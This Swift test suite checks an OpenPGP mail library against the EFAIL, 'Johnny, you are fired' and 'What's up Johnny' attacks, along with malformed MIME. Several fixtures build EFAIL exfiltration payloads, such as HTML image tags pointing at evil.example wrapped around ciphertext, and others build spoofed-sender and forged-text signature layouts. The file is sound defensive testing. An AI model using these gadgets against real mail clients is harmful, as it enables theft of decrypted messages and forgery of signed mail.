// SPDX-License-Identifier: Apache-2.0
//
// Mails of attackers and of broken programs, a case each: EFAIL (Poddebniak et al. 2018), "Johnny, you are fired" (Müller
// et al. 2019), "Re: What's up Johnny?" (Müller et al. 2019), and mails that two programs read in two ways. None is shown
// as signed or decrypted as a whole.

import Correspondence
import MessageFormats
import OpenPGP
import Testing

/// A mail, and what becomes of it.
struct MailSample: CustomTestStringConvertible, Sendable {
  enum Result: Equatable, Sendable {
    case refused(MailError)
    /// The engine refuses it: nothing comes out.
    case notDecrypted
    case shown(SignatureGrade, MailContent.Coverage, [MailContent.Note])
  }

  let testDescription: String
  let result: Result
  let mail: @Sendable (MailWorkshop) throws -> String

  init(_ name: String, _ result: Result, _ mail: @escaping @Sendable (MailWorkshop) throws -> String) {
    (testDescription, self.result, self.mail) = (name, result, mail)
  }

  static func found(_ read: () throws -> MailContent) -> Result {
    do {
      let content = try read()
      return .shown(content.verdict.grade, content.coverage, content.notes)
    } catch let error as MailError {
      return .refused(error)
    } catch {
      return .notDecrypted
    }
  }
}

private let secret = MailWorkshop.text("See you at four.")
private let head = MailWorkshop.head

@Suite("Mails of attackers", .serialized)
struct MailSampleTests {
  static let encrypted: [MailSample] = [
    MailSample("EFAIL: the ciphertext between two halves of a picture's address", .refused(.misplaced(3))) {
      try head
        + MailWorkshop.multipart(
          "mixed",
          [
            MailWorkshop.text("<img src=\"http://evil.example/", "html"),
            $0.mime($0.encrypted(secret, by: .bob)),
            MailWorkshop.text("\">", "html"),
          ])
    },
    MailSample("EFAIL in multipart/related", .refused(.misplaced(3))) {
      try head
        + MailWorkshop.multipart(
          "related", [MailWorkshop.text("<style>", "html"), $0.mime($0.encrypted(secret))])
    },
    MailSample("EFAIL in multipart/alternative", .refused(.misplaced(2))) {
      try head
        + MailWorkshop.multipart("alternative", [$0.mime($0.encrypted(secret)), MailWorkshop.text("x")])
    },
    MailSample("EFAIL with a block in HTML", .refused(.misplaced(1))) {
      try head
        + MailWorkshop.text("<img src='http://evil.example/\n" + $0.encrypted("See you") + "'>", "html")
    },
    MailSample("EFAIL with a block in a text between HTML", .refused(.misplaced(2))) {
      try head
        + MailWorkshop.multipart(
          "mixed",
          [
            MailWorkshop.text("<b>", "html"), MailWorkshop.text($0.encrypted("See you")),
            MailWorkshop.text("</b>", "html"),
          ])
    },
    MailSample("one text in a multipart, with nothing around it", .shown(.verified, .part, [])) {
      try head
        + MailWorkshop.multipart("mixed", [MailWorkshop.text($0.encrypted("See you at four.", by: .bob))])
    },
    MailSample("an attachment in packets", .refused(.misplaced(2))) {
      try head
        + MailWorkshop.multipart(
          "mixed", [MailWorkshop.text("See you"), $0.packets($0.encrypted("%PDF-1.4"))])
    },
    MailSample("an attachment in packets beside a block", .refused(.severalCiphertexts([1, 2]))) {
      try head
        + MailWorkshop.multipart(
          "mixed", [MailWorkshop.text($0.encrypted("See you")), $0.packets($0.encrypted("%PDF-1.4"))])
    },
    MailSample("two ciphertexts side by side", .refused(.severalCiphertexts([2, 4]))) {
      try head
        + MailWorkshop.multipart(
          "mixed",
          [
            $0.mime($0.encrypted(secret)),
            $0.mime($0.encrypted(secret)).replacing("\"enc\"", with: "\"two\"").replacing(
              "--enc", with: "--two"),
          ])
    },
    MailSample("a ciphertext beside an encrypted file", .refused(.severalCiphertexts([2, 3]))) {
      try head
        + MailWorkshop.multipart(
          "mixed",
          [$0.mime($0.encrypted(secret)), "Content-Type: application/x-any\n\n" + $0.encrypted("a file")])
    },
    MailSample("a ciphertext in a forwarded mail", .refused(.notEncrypted)) {
      try head
        + MailWorkshop.multipart(
          "mixed", [MailWorkshop.text("look"), "Content-Type: message/rfc822\n\n" + $0.mail(secret)])
    },
    MailSample("PGP/MIME with a third part", .refused(.severalCiphertexts([2, 3]))) {
      try head
        + $0.mime($0.encrypted(secret)).replacing(
          "--enc--", with: "--enc\n" + MailWorkshop.text("x") + "\n--enc--")
    },
    MailSample("PGP/MIME without its protocol", .refused(.misplaced(2))) {
      try head
        + $0.mime($0.encrypted(secret)).replacing(" protocol=\"application/pgp-encrypted\";", with: "")
    },
    MailSample("PGP/MIME whose first part is HTML", .refused(.misplaced(2))) {
      try head
        + $0.mime($0.encrypted(secret))
        .replacing("Content-Type: application/pgp-encrypted", with: "Content-Type: text/html")
    },
    MailSample("PGP/MIME of another version", .refused(.misplaced(2))) {
      try head + $0.mime($0.encrypted(secret), version: "Version: 2")
    },
    MailSample("a ciphertext that somebody has signed: it is not at the top", .refused(.notEncrypted)) {
      try head + $0.signed($0.mime($0.encrypted(secret)))
    },
    MailSample("EFAIL gadget: a changed ciphertext", .notDecrypted) {
      let armored = try $0.encrypted(secret, by: .bob)
      var lines = armored.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
      let middle = lines.count / 2
      lines[middle] = String(lines[middle].reversed())
      return head + $0.mime(lines.joined(separator: "\n"))
    },
    MailSample("a second layer of PGP/MIME", .refused(.nested)) {
      try $0.mail($0.mime($0.encrypted(secret)), by: .eve)
    },
    MailSample("a second layer in a text", .refused(.nested)) {
      try $0.mail(MailWorkshop.text($0.encrypted("See you")), by: .eve)
    },
    MailSample("What's up, Johnny: a second layer in a signature", .shown(.verified, .part, [])) {
      try $0.mail($0.signed($0.mime($0.encrypted(secret))))
    },
    MailSample("What's up, Johnny: a second layer beside a text", .shown(.none, .none, [])) {
      try $0.mail(
        MailWorkshop.multipart("mixed", [MailWorkshop.text("please answer"), $0.mime($0.encrypted(secret))]))
    },
    MailSample("What's up, Johnny: a quoted ciphertext", .refused(.notEncrypted)) {
      let quoted = try $0.encrypted("See you").split(separator: "\n").map { "> " + $0 }.joined(
        separator: "\n")
      return head + MailWorkshop.text("Re:\n" + quoted)
    },
    MailSample("two ciphertexts in one text", .refused(.severalTexts)) {
      try head + MailWorkshop.text($0.encrypted("one") + "\n" + $0.encrypted("two"))
    },
    MailSample("text before a ciphertext", .shown(.none, .none, [.mixed])) {
      try head + MailWorkshop.text("<img src=\"http://evil.example/\n" + $0.encrypted("See you"))
    },
    MailSample("text around a ciphertext that is signed", .shown(.verified, .part, [.mixed])) {
      try head + MailWorkshop.text("Pay today.\n\n" + $0.encrypted("See you", by: .bob) + "\nBob\n")
    },
    MailSample("a ciphertext without its end", .notDecrypted) {
      let armored = try $0.encrypted("See you")
      return head + MailWorkshop.text(String(armored.prefix(armored.count / 2)))
    },
    MailSample("signed for Ada by Bob, from somebody else", .shown(.verified, .part, [.senderDiffers])) {
      try $0.mail(secret, by: .bob, head: head.replacing("Bob Baker <bob@", with: "Boss <boss@"))
    },
    MailSample("encrypted and not signed, with a protected sender", .shown(.none, .none, [])) {
      try $0.mail(
        "Content-Type: text/plain; protected-headers=\"v1\"\nFrom: Bob Baker <bob@example.org>\n\nSee you",
        head: head)
    },
    MailSample("a mailing list's text inside of the encryption", .shown(.verified, .part, [.partlySigned])) {
      try $0.mail(
        MailWorkshop.multipart("mixed", [$0.signed(secret), MailWorkshop.text("Transfer 100 to ...")]))
    },
    MailSample("a changed text signed inside of the encryption", .shown(.invalid, .none, [])) {
      try $0.mail($0.signed(secret, over: MailWorkshop.text("See you at five.")))
    },
    MailSample("what was decrypted is not a mail", .shown(.verified, .part, [.notAMail])) {
      try $0.mail("Content-Type: multipart/mixed; boundary=x\n\n--x\n\nSee you", by: .bob)
    },
    MailSample("a subject that was changed on the way", .shown(.verified, .all, [.headersChanged])) {
      try $0.mail(
        "Content-Type: text/plain; hp=\"cipher\"\nSubject: Thursday\nHP-Outer: Subject: [...]\n\nSee you",
        by: .bob)
    },
  ]

  static let signed: [MailSample] = [
    MailSample("fired: text before the signed part", .refused(.notSigned)) {
      try head + MailWorkshop.multipart("mixed", [MailWorkshop.text("You are fired."), $0.signed(secret)])
    },
    MailSample("fired: a long text after the signed part", .refused(.notSigned)) {
      let long = String(repeating: "You are fired.\n", count: 400)
      return try head + MailWorkshop.multipart("mixed", [$0.signed(secret), MailWorkshop.text(long)])
    },
    MailSample("fired: HTML after the signed part", .refused(.notSigned)) {
      try head
        + MailWorkshop.multipart("mixed", [$0.signed(secret), MailWorkshop.text("<b>fired</b>", "html")])
    },
    MailSample("a mailing list's text after the signed part", .shown(.verified, .part, [.partlySigned])) {
      try head
        + MailWorkshop.multipart("mixed", [$0.signed(secret), MailWorkshop.text("-- \nlist@example.org")])
    },
    MailSample("fired: the signed part hidden by related HTML", .refused(.notSigned)) {
      try head
        + MailWorkshop.multipart(
          "related", [MailWorkshop.text("<img src=cid:x>", "html"), $0.signed(secret)])
    },
    MailSample("fired: a signed mail as an attachment", .refused(.notSigned)) {
      try head
        + MailWorkshop.multipart(
          "mixed",
          [
            MailWorkshop.text("You are fired."),
            "Content-Type: message/rfc822\n\n" + head + $0.signed(secret),
          ])
    },
    MailSample("fired: three parts in the signature", .refused(.notSigned)) {
      try head
        + $0.signed(secret).replacing("--sig--", with: "--sig\n" + MailWorkshop.text("fired") + "\n--sig--")
    },
    MailSample("a signature of another type", .refused(.notSigned)) {
      try head
        + $0.signed(secret).replacing(
          "Content-Type: application/pgp-signature", with: "Content-Type: text/plain")
    },
    MailSample("a signature of another protocol", .refused(.notSigned)) {
      try head
        + $0.signed(secret).replacing("protocol=\"application/pgp-s", with: "protocol=\"application/pkcs7-s")
    },
    MailSample("no signature in the signature's part", .refused(.badSignaturePart)) {
      try head
        + $0.signed(secret).replacing(
          #/-----BEGIN PGP(?s:.)*-----END PGP SIGNATURE-----/#, with: "Good signature")
    },
    MailSample("a changed text", .shown(.invalid, .none, [])) {
      try head + $0.signed(secret, over: MailWorkshop.text("See you at five."))
    },
    MailSample("blanks added at the end of a line", .shown(.invalid, .none, [])) {
      try head + $0.signed(secret + " ", over: secret)
    },
    MailSample(
      "fired: signed by a verified contact, from somebody else", .shown(.verified, .part, [.senderDiffers])
    ) {
      try head.replacing("Bob Baker <bob@", with: "Boss <boss@") + $0.signed(secret)
    },
    MailSample("fired: two senders in two headers", .shown(.verified, .part, [.senderDiffers])) {
      try "From: Boss <boss@example.org>\n" + head + $0.signed(secret)
    },
    MailSample("fired: two senders in one header", .shown(.verified, .part, [.senderDiffers])) {
      try head.replacing("From: ", with: "From: Boss <boss@example.org>, ") + $0.signed(secret)
    },
    MailSample("fired: the signer's address as a name", .shown(.verified, .part, [.senderDiffers])) {
      try head.replacing("Bob Baker <bob@example.org>", with: "bob@example.org <eve@example.org>")
        + $0.signed(secret)
    },
    MailSample("fired: two addresses in angle brackets", .shown(.verified, .part, [.senderDiffers])) {
      try head.replacing("Bob Baker <bob@example.org>", with: "<bob@example.org> <eve@example.org>")
        + $0.signed(secret)
    },
    MailSample("fired: no sender at all", .shown(.verified, .part, [.senderDiffers])) {
      try head.replacing("From: Bob Baker <bob@example.org>\n", with: "") + $0.signed(secret)
    },
    MailSample("fired: an unknown key with the name of a contact", .shown(.unknown, .none, [])) {
      try head + $0.signed(secret, by: .mallory)
    },
    MailSample("a contact that is not verified", .shown(.unverified, .part, [])) {
      try head.replacing("Bob Baker <bob@", with: "Eve <eve@") + $0.signed(secret, by: .eve)
    },
    MailSample(
      "fired: a contact signs with the name of another", .shown(.unverified, .part, [.senderDiffers])
    ) {
      try head + $0.signed(secret, by: .eve)
    },
    MailSample("fired: text before a readable signed text", .shown(.verified, .part, [.mixed])) {
      try head + MailWorkshop.text("You are fired.\n\n" + $0.clear("Dear Ada"))
    },
    MailSample("fired: two readable signed texts", .refused(.severalTexts)) {
      try head + MailWorkshop.text($0.clear("Dear Ada") + "\n" + $0.clear("Dear Eve", by: .eve))
    },
    MailSample("fired: a readable signed text in HTML", .refused(.notSigned)) {
      try head + MailWorkshop.text("<!--\n" + $0.clear("Dear Ada") + "-->You are fired.", "html")
    },
    MailSample("fired: a readable signed text in a part", .refused(.notSigned)) {
      try head
        + MailWorkshop.multipart(
          "mixed", [MailWorkshop.text($0.clear("Dear Ada")), MailWorkshop.text("fired")])
    },
    MailSample("a subject that was signed, and another outside", .shown(.verified, .all, [.headersChanged])) {
      try head + $0.signed("Content-Type: text/plain; hp=\"clear\"\nSubject: Thursday\n\nSee you")
    },
    MailSample("an encrypted mail is not verified", .refused(.encrypted)) { try $0.mail(secret, by: .bob) },
    MailSample("no signature", .refused(.notSigned)) { _ in head + secret },
  ]

  static let broken: [MailSample] = [
    MailSample("two content types", .refused(.malformed(.contentHeader))) {
      try head + "Content-Type: text/html\n" + $0.signed(secret)
    },
    MailSample("two boundaries", .refused(.malformed(.contentHeader))) {
      try head + $0.signed(secret).replacing("micalg=pgp-sha512;", with: "boundary=\"other\";")
    },
    MailSample("a comment in the content type", .refused(.malformed(.contentHeader))) {
      try head + $0.signed(secret).replacing("multipart/signed", with: "multipart/(x)signed")
    },
    MailSample("an encoded multipart", .refused(.malformed(.contentHeader))) {
      try head + "Content-Transfer-Encoding: base64\n" + $0.signed(secret)
    },
    MailSample("no boundary", .refused(.malformed(.boundary))) { _ in
      head + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"\n\nx\n"
    },
    MailSample("the boundary of a part around it", .refused(.malformed(.boundary))) { _ in
      head + MailWorkshop.multipart("mixed", ["Content-Type: multipart/mixed; boundary=out\n\nx"])
    },
    MailSample("no end", .refused(.malformed(.unclosed))) {
      try head + $0.signed(secret).replacing("--sig--", with: "")
    },
    MailSample("parts after the end", .refused(.malformed(.unclosed))) {
      try head + $0.signed(secret) + "--sig\n" + MailWorkshop.text("fired") + "\n--sig--\n"
    },
    MailSample("a NUL in a header", .refused(.malformed(.header))) {
      try head + "X-A: a\u{0}b\n" + $0.signed(secret)
    },
    MailSample("a CR alone in a header", .refused(.malformed(.header))) {
      try head + "X-A: a\rSubject: b\n" + $0.signed(secret)
    },
    MailSample("a line that is not a header", .refused(.malformed(.header))) {
      try head + "Good signature\n" + $0.signed(secret)
    },
    MailSample("seventeen multiparts in one another", .refused(.malformed(.overLimit))) { _ in
      head + (0..<17).reduce(secret) { MailWorkshop.multipart("mixed", [$0], boundary: "b\($1)x") }
    },
    MailSample("more than a thousand parts", .refused(.malformed(.overLimit))) { _ in
      head + MailWorkshop.multipart("mixed", Array(repeating: secret, count: 1_001))
    },
  ]

  @Test("decrypting", arguments: encrypted)
  func decrypting(sample: MailSample) throws {
    let workshop = MailWorkshop.shared
    let mail = try sample.mail(workshop)
    #expect(MailSample.found { try workshop.decrypt(mail) } == sample.result)
    // CR LF, as mail is on its way, changes nothing.
    #expect(MailSample.found { try workshop.decrypt(mail.replacing("\n", with: "\r\n")) } == sample.result)
  }

  @Test("verifying", arguments: signed + broken)
  func verifying(sample: MailSample) throws {
    let workshop = MailWorkshop.shared
    let mail = try sample.mail(workshop)
    #expect(MailSample.found { try workshop.verify(mail) } == sample.result)
    #expect(MailSample.found { try workshop.verify(mail.replacing("\n", with: "\r\n")) } == sample.result)
  }

  @Test("what is not protected never is among the texts with bars")
  func texts() throws {
    let workshop = MailWorkshop.shared
    let mixed = try workshop.decrypt(
      head + MailWorkshop.text("Pay today.\n\n" + workshop.encrypted("See you", by: .bob) + "\nBob\n"))
    #expect(mixed.shown.texts.map(mixed.text) == ["See you"])
    #expect(mixed.others.count == 2)
    let list = try workshop.verify(
      head + MailWorkshop.multipart("mixed", [workshop.signed(secret), MailWorkshop.text("Pay today.")]))
    #expect(list.shown.texts.map(list.text) == ["See you at four."])
    #expect(list.footer.map(list.text) == "Pay today.")
    let inner = try workshop.decrypt(
      workshop.mail(
        MailWorkshop.multipart(
          "mixed", [MailWorkshop.text("please answer"), workshop.mime(workshop.encrypted(secret))])))
    #expect(inner.shown.texts.map(inner.text) == ["please answer"])
  }
}
